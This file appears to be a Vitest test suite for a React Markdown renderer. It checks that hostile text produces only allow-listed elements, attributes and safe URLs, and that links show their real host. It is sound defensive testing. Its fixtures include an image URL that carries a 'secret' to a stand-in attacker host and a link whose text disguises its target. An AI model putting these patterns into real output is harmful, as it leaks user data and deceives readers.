import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { hostileTexts } from "../../../test/page/hostile-texts.ts";
import { Markdown } from "./markdown.tsx";

function draw(text: string, isWhole = true): string {
  return renderToStaticMarkup(createElement(Markdown, { text, isWhole }));
}

/** Elements that a text may become, and what they may have. */
const elements =
  /^<\/?(?:div|p|h[3-6]|strong|em|del|code|pre|figure|figcaption|span|button|svg|path|blockquote|ul|ol|li|hr|br|section|table|thead|tbody|tr|th|td|a)(?:\s[^>]*)?\/?>$/;
const attributes =
  /^(?:class|dir|start|role|aria-label|aria-hidden|focusable|viewBox|d|type|title|tabindex|href|target|rel)$/i;

describe("a text as elements", () => {
  it.each([true, false])("I1, I4: only such as the list allows, whatever the text (whole: %s)", (isWhole) => {
    for (const text of hostileTexts) {
      for (const [tag] of draw(text, isWhole).matchAll(/<[^>]*>/g)) {
        expect(tag, text).toMatch(elements);
        for (const [, name = ""] of tag.matchAll(/\s([\w-]+)="/g)) expect(name, text).toMatch(attributes);
        for (const [, url = ""] of tag.matchAll(/\shref="([^"]*)"/g))
          expect(url, text).toMatch(/^(?:https?:\/\/|mailto:)/);
      }
    }
  });

  it("I2: a picture is a link with its host", () => {
    const drawn = draw("![a cat](https://evil.example/cat.png?said=secret)");
    expect(drawn).not.toContain("<img");
    expect(drawn).toContain("Image: a cat");
    expect(drawn).toContain("(evil.example)");
  });

  it("I3: a link names the host that it leads to, whatever its words say", () => {
    const drawn = draw("[https://good.example](https://evil.example/)");
    expect(drawn).toContain("(evil.example)");
    expect(drawn).toContain('rel="noopener noreferrer nofollow"');
    expect(draw("[https://good.example/evil.example](https://evil.example/)")).toContain("(evil.example)");
    expect(draw("https://example.com/x")).not.toContain('class="host"');
  });

  it("has its headings below those of the page, tables that can be scrolled, and boxes that are read out", () => {
    expect(draw("# One\n\n###### Six")).toMatch(/<h3[^>]*>One<\/h3>.*<h6[^>]*>Six<\/h6>/);
    expect(draw("| a |\n|--:|\n| 1 |")).toMatch(
      /<section class="table" tabindex="0"[^>]*><table>.*<td class="right">1/,
    );
    expect(draw("- [x] done\n- [ ] open")).toMatch(/aria-label="Done:".*aria-label="To do:"/s);
  });

  it("reads a text with definitions as a whole when it is complete", () => {
    const text = "See [the book][b].\n\nMore.\n\n[b]: https://example.com/book";
    expect(draw(text, false)).not.toContain("href");
    expect(draw(text)).toContain('href="https://example.com/book"');
  });
});
